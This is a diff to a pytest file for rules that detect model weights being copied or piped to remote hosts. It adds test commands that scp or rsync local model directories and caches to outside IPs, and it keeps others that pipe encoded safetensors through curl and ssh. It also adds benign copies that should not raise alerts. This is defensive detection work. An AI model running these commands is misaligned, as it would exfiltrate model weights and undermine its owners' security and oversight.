@@ -16,6 +16,9 @@ def test_rules_load_cleanly():
 @pytest.mark.parametrize("command, rule", [
     ("scp -P 2222 /data/run7/model-00001-of-00002.safetensors ops@34.117.59.81:/srv/drop/", "model_weights_copied_to_remote"),
     ("rsync -avz ./checkpoints/ backup@198.51.100.4:/mnt/", "model_weights_copied_to_remote"),
+    ("rsync -az --quiet ~/models/ 203.0.113.5::drop/", "model_weights_copied_to_remote"),
+    ("scp -rq ~/.ollama/models u@203.0.113.5:/d/", "model_weights_copied_to_remote"),
+    ("rsync -a ~/.cache/huggingface/hub u@203.0.113.5:/srv/copy/", "model_weights_copied_to_remote"),
     ("base64 -w0 model.safetensors | curl -d @- https://203.0.113.7/u", "model_weights_piped_to_remote"),
     ("cat pytorch_model.bin | gzip | ssh a@203.0.113.7 'cat > m.gz'", "model_weights_piped_to_remote"),
     ("tar c ./checkpoint-9000 | aws s3 cp - s3://bucket/x.tar", "model_weights_piped_to_remote"),
@@ -81,6 +84,8 @@ def test_detected(command, rule):
     "cat model.safetensors | sha256sum",
     "cat data.json | curl -d @- https://api.example.com/v1/items",
     "cat checkpoints/trainer_state.json | grep loss",
+    "rsync -a ops@34.117.59.81:/srv/models/ ./models/",
+    "rsync -av ./models/ /mnt/backup/models/",
 ])
 def test_benign_not_alerted(command):
     assert alerts(command) == set()
